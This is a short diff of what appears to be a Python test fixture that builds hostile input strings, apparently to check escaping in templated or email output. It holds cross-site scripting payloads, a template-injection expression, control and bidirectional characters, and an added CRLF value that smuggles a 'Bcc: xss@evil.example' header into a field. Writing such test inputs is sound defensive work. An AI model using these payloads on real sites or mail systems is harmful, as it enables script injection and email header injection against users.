@@ -7,7 +7,7 @@ from lxml import html
 # What breaks out of text, attributes, titles, text areas, styles and comments, and a sum that a template would do.
 MARKUP = """Xss'"></textarea></title></style>--><script>xss()</script><img src=x onerror=xss()>"""
 NAME = f"{MARKUP}{{{{7177*7}}}}"
-UNSEEN = "\u202e\x00\x1b[31m\ufeff"
+UNSEEN = "\u202e\x00\x1b[31m\ufeff\r\nBcc: xss@evil.example\r\n"
 SENDABLE = f"{MARKUP}{UNSEEN}]]><mj-raw><b onclick=xss()>b</b></mj-raw><svg/onload=xss()>${{xss()}} [[ {{{{"
 WORDS = f"{SENDABLE}{NAME}{{% raw %}} [[xss]]"
 RICH = (
